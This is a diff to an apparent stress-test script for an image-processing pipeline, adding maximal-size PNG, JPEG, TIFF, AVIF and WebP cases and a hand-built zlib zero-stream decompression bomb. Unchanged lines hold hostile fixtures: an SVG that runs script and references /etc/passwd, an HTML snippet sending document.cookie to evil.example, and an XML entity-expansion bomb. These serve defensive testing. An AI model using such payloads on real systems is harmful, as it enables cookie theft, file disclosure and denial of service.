@@ -9,15 +9,18 @@ from __future__ import annotations
 import io
 import json
 import os
+import random
 import struct
 import sys
+import tempfile
 import time
 import zlib
 from collections.abc import Callable
 from functools import cache
 from pathlib import Path
+from typing import Any
 
-from PIL import Image
+from PIL import ExifTags, Image, ImageCms
 
 from imgproc.errors import CompressError
 from imgproc.pipeline.compress import CompressOptions, compress
@@ -27,7 +30,7 @@ MAX_PIXELS = 50_000_000
 SIDE = 7071  # squared just below the cap
 
 
-def _encode(image: Image.Image, image_format: str, **options: object) -> bytes:
+def _encode(image: Image.Image, image_format: str, **options: Any) -> bytes:
     stream = io.BytesIO()
     image.save(stream, image_format, **options)
     return stream.getvalue()
@@ -43,12 +46,12 @@ def _png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 
     return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + end
 
 
-@cache
 def _zeros(size: int) -> bytes:
-    """Many zeros in few bytes."""
-    packer, block = zlib.compressobj(9), bytes(1024 * 1024)
-    packed = b"".join(packer.compress(block) for _ in range(size // len(block)))
-    return packed + packer.compress(bytes(size % len(block))) + packer.flush()
+    """Many zeros in few bytes (RFC 1950): a compressed block of them, again and again."""
+    packer = zlib.compressobj(9, wbits=-15)
+    block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    rest = packer.compress(bytes(size % 2**20)) + packer.flush()
+    return b"\x78\xda" + block * (size // 2**20) + rest + struct.pack(">HH", size % 65521, 1)
 
 
 def _frames(image_format: str, count: int) -> bytes:
@@ -99,6 +102,24 @@ def _largest(mode: str, image_format: str, **options: object) -> bytes:
     return _encode(Image.new(mode, (SIDE, SIDE)), image_format, **options)
 
 
+def _noisy_png() -> bytes:
+    """As many pixels as may be, in as many bytes as may be: noise above, black below."""
+    noise, packer = random.Random(1).randbytes(48 * 1024 * 1024), zlib.compressobj(1)
+    rows = (noise[row : row + 4 * SIDE].ljust(4 * SIDE, b"\0") for row in range(0, 4 * SIDE * SIDE, 4 * SIDE))
+    body = b"".join(packer.compress(b"\0" + row) for row in rows) + packer.flush()
+    return _png(SIDE, SIDE, colour=6, body=body)
+
+
+def _all_extras() -> dict[str, Any]:
+    """A picture that lies on its side, in colours that are not sRGB: a profile whose red and green are swapped."""
+    exif = Image.Exif()
+    exif[ExifTags.Base.Orientation] = 6
+    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    swapped = srgb.replace(b"rXYZ", b"????").replace(b"gXYZ", b"rXYZ").replace(b"????", b"gXYZ")
+    return {"exif": exif, "icc_profile": swapped}
+
+
+_LOSSLESS_WEBP = bytes.fromhex("524946461a000000574542505650384c0d0000002f9e9be716071011118888fe0700")
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>'
 HTML = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"
 XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><svg>&c;</svg>'
@@ -140,6 +161,24 @@ CASES: dict[str, Case] = {
     "the largest CMYK TIFF": (lambda: _largest("CMYK", "TIFF", compression="tiff_deflate"), "rendition"),
     "the largest floating-point TIFF": (lambda: _largest("F", "TIFF", compression="tiff_deflate"), "rendition"),
     "the largest GIF": (lambda: _largest("P", "GIF"), "rendition"),
+    "the largest grey PNG with transparency": (lambda: _largest("LA", "PNG"), "rendition"),
+    "the largest RGBA PNG with all extras": (lambda: _largest("RGBA", "PNG", **_all_extras()), "rendition"),
+    "the largest PNG in 50 MiB": (_noisy_png, "rendition"),
+    "the largest JPEG with all extras": (lambda: _largest("RGB", "JPEG", **_all_extras()), "rendition"),
+    "the largest progressive CMYK JPEG": (lambda: _largest("CMYK", "JPEG", progressive=True), "rendition"),
+    "the largest TIFF with all extras": (
+        lambda: _largest("RGBA", "TIFF", compression="tiff_deflate", **_all_extras()),
+        "rendition",
+    ),
+    "the largest TIFF in one strip": (
+        lambda: _largest("RGBA", "TIFF", compression="tiff_deflate", strip_size=2**31 - 1),
+        "rendition",
+    ),
+    "the largest GIF with transparency": (lambda: _largest("P", "GIF", transparency=0), "rendition"),
+    "the largest AVIF": (lambda: _largest("RGB", "AVIF", speed=10), "rendition"),
+    "the largest AVIF with transparency": (lambda: _largest("RGBA", "AVIF", speed=10), "rendition"),
+    "the largest WebP": (lambda: _largest("RGB", "WEBP", method=0), "rendition"),
+    "the largest lossless WebP": (lambda: _LOSSLESS_WEBP, "rendition"),
     "one pixel high and very wide": (lambda: _encode(Image.new("L", (65500, 1)), "JPEG"), "rendition"),
     # Animations and pages: the first one alone.
     "an animated GIF of 2,000 frames": (lambda: _frames("GIF", 2000), "rendition"),
@@ -221,13 +260,26 @@ def main(begins: str, limit: int) -> None:
     run(_photo("PNG"))
     for name, (make, _) in CASES.items():
         if name.startswith(begins):
-            source = make()
+            source = _made(make)
             if (child := os.fork()) == 0:
                 _measure(name, source, limit)
                 os._exit(0)
             _, status = os.waitpid(child, 0)
             if status:
                 sys.exit(f"{name}: the process ended with {os.waitstatus_to_exitcode(status)}")
+
+
+def _made(make: Callable[[], bytes]) -> bytes:
+    """The source, made in a process of its own, so that this one keeps none of the memory that it took."""
+    with tempfile.TemporaryFile() as file:
+        if os.fork() == 0:
+            file.write(make())
+            file.flush()
+            os._exit(0)
+        _, status = os.wait()
+        assert status == 0
+        file.seek(0)
+        return file.read()
 
 
 def _measure(name: str, source: bytes, limit: int) -> None:
